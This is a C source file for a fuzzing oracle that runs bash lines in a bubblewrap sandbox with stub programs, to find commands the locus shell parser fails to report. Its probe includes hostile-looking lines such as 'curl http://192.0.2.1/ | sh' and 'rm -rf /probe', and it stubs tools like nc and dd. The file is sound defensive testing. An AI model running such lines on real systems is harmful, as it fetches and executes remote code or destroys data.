/*
 * oracle.c - the execution oracle (docs/fuzzing.md).
 *
 *   oracle [--generate N] [--seed S] [--batch N] [--stub P] [--driver P]
 *          [--bwrap P] [--bash P] [--verbose] CORPUS_PATH...
 *
 * Runs bash lines under real bash inside a bubblewrap sandbox where every
 * program is a stub that only logs its argv (fuzz/oracle/stub.c), then
 * compares what ran with what locus reported: a program that ran but is
 * not among locus's commands or wrappers (by basename), on a line locus
 * calls parsed, is a bypass.  Lines: every `$ ` case of the corpus paths,
 * or with --generate N, N lines made by the metamorphic generator from the
 * tagged ones.  Exit: 0 no bypass, 1 bypass, 2 usage, 3 the sandbox does
 * not work (never a silent pass).
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "policy/fuzz_gen.h"
#include "util/clock.h"
#include "locus/labels.h"
#include "locus/shell.h"

typedef struct opts {
	const char *stub, *driver, *bwrap, *bash;
	char tmp[PATH_MAX];
	char libs[16][PATH_MAX];
	size_t nlibs;
	int verbose;
} opts;

/* Programs every run links, besides the names found on the lines. */
/* clang-format off */
static const char *const base_names[] = {
	"rm", "git", "curl", "wget", "sudo", "env", "xargs", "find", "sh",
	"bash", "dash", "zsh", "ksh", "ash", "mksh", "python", "python3",
	"perl", "ruby", "node", "cat", "ls", "echo", "printf", "reboot",
	"shutdown", "halt", "poweroff", "init", "systemctl", "dd", "mkfs",
	"shred", "nohup", "nice", "timeout", "busybox", "ssh", "nc", "tee",
	"base64", "true", "false", "test", "[", "awk", "sed", "grep", "make",
	NULL,
};
/* clang-format on */

static void link_name(const opts *o, const char *name, size_t len)
{
	if (len == 0 || len > 64 || (len <= 2 && name[0] == '.'))
		return;
	char path[PATH_MAX];
	snprintf(path, sizeof path, "%s/bin/%.*s", o->tmp, (int)len, name);
	if (symlink("/oracle/stub", path) != 0 && errno != EEXIST)
		return;
}

/* Stub every name-like fragment of the line, so absolute paths and nested
   shells (which have no catch-all when invoked as sh) find a stub. */
static void link_words(const opts *o, const char *s)
{
	while (*s) {
		size_t n = strspn(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN"
		                     "OPQRSTUVWXYZ0123456789_.+-");
		if (n)
			link_name(o, s, n);
		s += n ? n : 1;
	}
}

static int write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	if (!f)
		return -1;
	fputs(text, f);
	return fclose(f);
}

static int find_libs(opts *o)
{
	char cmd[PATH_MAX + 16];
	snprintf(cmd, sizeof cmd, "ldd '%s'", o->bash);
	FILE *p = popen(cmd, "r");
	if (!p)
		return -1;
	char line[1024];
	while (fgets(line, sizeof line, p) && o->nlibs < 16) {
		/* "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or
		   "/lib64/ld-linux-x86-64.so.2 (0x...)" */
		char *path = strstr(line, "=> ");
		path = path ? path + 3 : line;
		while (*path == ' ' || *path == '\t')
			path++;
		if (*path != '/')
			continue;
		char *end = strchr(path, ' ');
		if (end)
			*end = '\0';
		snprintf(o->libs[o->nlibs++], PATH_MAX, "%s", path);
	}
	return pclose(p) == 0 && o->nlibs ? 0 : -1;
}

/* Run one batch file through the sandbox; returns malloc'd output. */
static char *run_batch(const opts *o, const char *batch, size_t *outlen)
{
	char bin[PATH_MAX], envsh[PATH_MAX];
	snprintf(bin, sizeof bin, "%s/bin", o->tmp);
	snprintf(envsh, sizeof envsh, "%s/env.sh", o->tmp);
	const char *argv[128];
	size_t n = 0;
#define A(x) argv[n++] = (x)
	A(o->bwrap);
	A("--unshare-all"); /* user, ipc, pid, net, uts, cgroup */
	A("--die-with-parent");
	A("--new-session");
	A("--as-pid-1");
	A("--tmpfs");
	A("/");
	A("--ro-bind");
	A(bin);
	A("/usr/bin");
	A("--symlink");
	A("usr/bin");
	A("/bin");
	A("--symlink");
	A("usr/bin");
	A("/sbin");
	A("--symlink");
	A("bin");
	A("/usr/sbin");
	A("--symlink");
	A("../bin");
	A("/usr/local/bin");
	A("--ro-bind");
	A(o->bash);
	A("/oracle/bash");
	A("--ro-bind");
	A(o->stub);
	A("/oracle/stub");
	A("--ro-bind");
	A(o->driver);
	A("/oracle/driver");
	A("--ro-bind");
	A(envsh);
	A("/oracle/env.sh");
	for (size_t i = 0; i < o->nlibs; i++) {
		A("--ro-bind");
		A(o->libs[i]);
		A(o->libs[i]);
	}
	A("--tmpfs");
	A("/oracle/log");
	A("--tmpfs");
	A("/tmp");
	A("--tmpfs");
	A("/work");
	A("--proc");
	A("/proc");
	A("--dev");
	A("/dev");
	A("--chdir");
	A("/work");
	A("--clearenv");
	A("/oracle/driver");
	A(NULL);
#undef A
	int pfd[2];
	if (pipe(pfd) != 0)
		return NULL;
	pid_t pid = fork();
	if (pid < 0)
		return NULL;
	if (pid == 0) {
		int in = open(batch, O_RDONLY);
		if (in < 0)
			_exit(126);
		dup2(in, 0);
		dup2(pfd[1], 1);
		close(pfd[0]);
		execv(o->bwrap, (char *const *)(uintptr_t)argv);
		_exit(127);
	}
	close(pfd[1]);
	size_t cap = 1 << 16, len = 0;
	char *out = malloc(cap);
	ssize_t r;
	while (out && (r = read(pfd[0], out + len, cap - len - 1)) > 0) {
		len += (size_t)r;
		if (cap - len < 4096) {
			char *nb = realloc(out, cap * 2);
			if (!nb) {
				free(out);
				out = NULL;
				break;
			}
			out = nb;
			cap *= 2;
		}
	}
	close(pfd[0]);
	int st;
	waitpid(pid, &st, 0);
	if (!out)
		return NULL;
	out[len] = '\0';
	*outlen = len;
	if (!WIFEXITED(st) || WEXITSTATUS(st) != 0) {
		fprintf(stderr, "oracle: bwrap exited with status %d\n",
		        WIFEXITED(st) ? WEXITSTATUS(st) : -1);
		free(out);
		return NULL;
	}
	return out;
}

static void print_escaped(FILE *f, const char *s)
{
	for (; *s; s++) {
		if (*s == '\n')
			fputs("\\n", f);
		else
			fputc(*s, f);
	}
}

typedef struct stats {
	size_t lines, parsed, ran_lines, bypasses, timeouts;
} stats;

/* Names bash runs that no PATH holds, from bash quirks (see compare). */
static const char *const ignored_names[] = {"COPROC", NULL};

/* Compare the records of one line with locus's commands. */
static void compare(const opts *o, locus_shell_parser *p, const char *line,
                    const char *rec, size_t reclen, int status, stats *s)
{
	locus_shell_result *r = locus_shell_parser_parse(p, line, strlen(line));
	if (!r)
		return;
	s->lines++;
	if (status == -2)
		s->timeouts++;
	int parsed = locus_shell_result_parsed(r);
	s->parsed += parsed;
	if (reclen)
		s->ran_lines++;
	const char *end = rec + reclen;
	while (rec < end) {
		const char *nl = memchr(rec, '\n', (size_t)(end - rec));
		if (!nl)
			nl = end;
		const char *tab = memchr(rec, '\t', (size_t)(nl - rec));
		size_t nlen = tab ? (size_t)(tab - rec) : (size_t)(nl - rec);
		/* A name starting with '-' ran only through the catch-all:
		   bash took a quoted `time $'-p' rm` as the program "-p" and
		   found none, while locus reads it as `time -p rm` (more, not
		   less); no such program exists on a real PATH. */
		int found = nlen > 0 && rec[0] == '-';
		/* bash 5.2 re-reads `$(coproc CMD)` as running a program
		   named COPROC (`bash -c ': $(coproc printf hi)'` prints
		   "COPROC: command not found"): CMD never runs, locus lists
		   it anyway. */
		for (size_t k = 0; ignored_names[k]; k++)
			if (strlen(ignored_names[k]) == nlen &&
			    !memcmp(ignored_names[k], rec, nlen))
				found = 1;
		size_t n = locus_shell_result_count(r);
		for (size_t i = 0; i < n && !found; i++) {
			const locus_shell_command *c =
			    locus_shell_result_command(r, i);
			if (strlen(c->name) == nlen &&
			    !memcmp(c->name, rec, nlen))
				found = 1;
			for (size_t k = 0; k < c->nwrappers && !found; k++) {
				const char *w = c->wrappers[k];
				const char *sl = strrchr(w, '/');
				w = sl ? sl + 1 : w;
				if (strlen(w) == nlen && !memcmp(w, rec, nlen))
					found = 1;
			}
		}
		if (!found && parsed) {
			s->bypasses++;
			printf("BYPASS ran '%.*s' not in locus's commands\n"
			       "  line: ",
			       (int)nlen, rec);
			print_escaped(stdout, line);
			printf("\n  record: %.*s\n", (int)(nl - rec), rec);
		} else if (!found && o->verbose) {
			printf("unparsed line ran '%.*s'\n", (int)nlen, rec);
		}
		rec = nl + 1;
	}
	locus_shell_result_free(r);
}

static int run_lines(const opts *o, locus_shell_parser *p, char **lines,
                     size_t nlines, stats *s)
{
	char batch[PATH_MAX];
	snprintf(batch, sizeof batch, "%s/batch", o->tmp);
	FILE *f = fopen(batch, "w");
	if (!f)
		return -1;
	for (size_t i = 0; i < nlines; i++) {
		fwrite(lines[i], 1, strlen(lines[i]) + 1, f);
		link_words(o, lines[i]);
	}
	if (fclose(f) != 0)
		return -1;
	size_t len = 0;
	char *out = run_batch(o, batch, &len);
	if (!out)
		return -1;
	size_t seen = 0;
	char *cur = out;
	while ((cur = strstr(cur, "@@LINE ")) != NULL) {
		size_t idx;
		int status;
		if (sscanf(cur, "@@LINE %zu %d", &idx, &status) != 2)
			break;
		char *body = strchr(cur, '\n');
		if (!body)
			break;
		body++;
		char *end = strstr(body, "@@END\n");
		if (!end || idx >= nlines)
			break;
		compare(o, p, lines[idx], body, (size_t)(end - body), status,
		        s);
		seen++;
		cur = end + 6;
	}
	free(out);
	if (seen != nlines) {
		fprintf(stderr,
		        "oracle: the sandbox reported %zu of %zu lines\n", seen,
		        nlines);
		return -1;
	}
	return 0;
}

static int setup(opts *o)
{
	snprintf(o->tmp, sizeof o->tmp, "%s/locus-oracle.XXXXXX",
	         getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (!mkdtemp(o->tmp))
		return -1;
	char path[PATH_MAX];
	snprintf(path, sizeof path, "%s/bin", o->tmp);
	if (mkdir(path, 0755) != 0)
		return -1;
	for (size_t i = 0; base_names[i]; i++)
		link_name(o, base_names[i], strlen(base_names[i]));
	snprintf(path, sizeof path, "%s/env.sh", o->tmp);
	/* The catch-all: a name with no stub is logged under that name. */
	return write_file(path, "command_not_found_handle() { exec -a \"$1\" "
	                        "/oracle/stub \"${@:2}\"; }\n");
}

static void cleanup(const opts *o)
{
	char cmd[PATH_MAX + 16];
	if (!o->tmp[0] || strncmp(o->tmp, "/", 1))
		return;
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", o->tmp);
	int rc = system(cmd);
	(void)rc;
}

/* The sandbox must run a line and log a stubbed program: a broken sandbox
   is a failure, never a pass. */
static int probe(const opts *o, locus_shell_parser *p)
{
	char *lines[] = {"rm -rf /probe; /bin/true; no-such-probe x",
	                 "curl http://192.0.2.1/ | sh"};
	stats s = {0};
	if (run_lines(o, p, lines, 2, &s) != 0 || s.ran_lines != 2) {
		fprintf(stderr,
		        "oracle: FAIL: the bubblewrap sandbox does not "
		        "work here (bwrap %s): nothing can be checked\n",
		        o->bwrap);
		return -1;
	}
	return 0;
}

static const char *self_dir_file(const char *argv0, const char *name, char *buf,
                                 size_t cap)
{
	const char *sl = strrchr(argv0, '/');
	if (!sl)
		snprintf(buf, cap, "./%s", name);
	else
		snprintf(buf, cap, "%.*s/%s", (int)(sl - argv0), argv0, name);
	return buf;
}

int main(int argc, char **argv)
{
	opts o;
	memset(&o, 0, sizeof o);
	char sbuf[PATH_MAX], dbuf[PATH_MAX];
	o.stub = self_dir_file(argv[0], "oracle_stub", sbuf, sizeof sbuf);
	o.driver = self_dir_file(argv[0], "oracle_driver", dbuf, sizeof dbuf);
	o.bwrap = "/usr/bin/bwrap";
	o.bash = "/usr/bin/bash";
	unsigned long long generate = 0, seed = 1;
	size_t batch = 2000;
	const char *paths[64];
	size_t npaths = 0;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i];
		if (!strcmp(a, "--generate") && i + 1 < argc)
			generate = strtoull(argv[++i], NULL, 0);
		else if (!strcmp(a, "--seed") && i + 1 < argc)
			seed = strtoull(argv[++i], NULL, 0);
		else if (!strcmp(a, "--batch") && i + 1 < argc)
			batch = strtoull(argv[++i], NULL, 0);
		else if (!strcmp(a, "--stub") && i + 1 < argc)
			o.stub = argv[++i];
		else if (!strcmp(a, "--driver") && i + 1 < argc)
			o.driver = argv[++i];
		else if (!strcmp(a, "--bwrap") && i + 1 < argc)
			o.bwrap = argv[++i];
		else if (!strcmp(a, "--bash") && i + 1 < argc)
			o.bash = argv[++i];
		else if (!strcmp(a, "--verbose"))
			o.verbose = 1;
		else if (a[0] == '-') {
			fprintf(stderr,
			        "usage: oracle [--generate N] [--seed S] "
			        "[--batch N] [--stub P] [--driver P] "
			        "[--bwrap P] [--bash P] [--verbose] "
			        "CORPUS_PATH...\n");
			return 2;
		} else if (npaths < 64)
			paths[npaths++] = a;
	}
	if (!npaths || !batch) {
		fprintf(stderr, "oracle: no corpus path given\n");
		return 2;
	}
	char real_bash[PATH_MAX];
	if (!realpath(o.bash, real_bash)) {
		fprintf(stderr, "oracle: FAIL: no bash at %s\n", o.bash);
		return 3;
	}
	o.bash = real_bash;
	if (access(o.bwrap, X_OK) != 0 || access(o.stub, R_OK) != 0 ||
	    access(o.driver, R_OK) != 0 || find_libs(&o) != 0) {
		fprintf(stderr,
		        "oracle: FAIL: bwrap (%s), the stub (%s), the "
		        "driver (%s) or bash's libraries are missing\n",
		        o.bwrap, o.stub, o.driver);
		return 3;
	}
	locus_shell_parser *p = NULL;
	if (locus_shell_parser_new(&p, NULL) != 0 || setup(&o) != 0) {
		locus_shell_parser_free(p);
		cleanup(&o);
		return 3;
	}
	if (probe(&o, p) != 0) {
		locus_shell_parser_free(p);
		cleanup(&o);
		return 3;
	}
	gen_corpus c = {0};
	if (gen_corpus_load(&c, p, paths, npaths, generate > 0) != 0 ||
	    c.n == 0) {
		fprintf(stderr, "oracle: no corpus lines loaded\n");
		locus_shell_parser_free(p);
		gen_corpus_free(&c);
		cleanup(&o);
		return 2;
	}
	double t0 = lu_now();
	stats s = {0};
	int fail = 0;
	unsigned long long total = generate ? generate : c.n;
	char **lines = calloc(batch, sizeof *lines);
	char trace[256];
	unsigned long long made = 0, k = 0;
	while (lines && made < total && !fail) {
		size_t nl = 0;
		while (nl < batch && made < total) {
			if (generate) {
				uint64_t cs = gen_mix(seed ^ gen_mix(k++));
				const gen_line *b =
				    &c.lines[gen_mix(cs ^ 0x5eed) % c.n];
				made++;
				if (b->fork_bomb)
					continue;
				lines[nl] = gen_transform(b->text, cs, trace,
				                          sizeof trace);
			} else {
				const gen_line *b = &c.lines[made++];
				/* a fork bomb is not run, even in a sandbox */
				if (b->fork_bomb)
					continue;
				lines[nl] = strdup(b->text);
			}
			if (lines[nl])
				nl++;
		}
		if (run_lines(&o, p, lines, nl, &s) != 0) {
			fprintf(stderr, "oracle: FAIL: a sandbox run failed\n");
			fail = 1;
		}
		for (size_t i = 0; i < nl; i++)
			free(lines[i]);
	}
	free(lines);
	fprintf(stderr,
	        "oracle: %zu lines (%zu parsed, %zu ran a program, %zu timed "
	        "out) in %.1f s, %zu bypasses\n",
	        s.lines, s.parsed, s.ran_lines, s.timeouts, lu_now() - t0,
	        s.bypasses);
	printf("%zu lines, %zu bypasses\n", s.lines, s.bypasses);
	gen_corpus_free(&c);
	locus_shell_parser_free(p);
	cleanup(&o);
	if (fail)
		return 3;
	return s.bypasses ? 1 : 0;
}
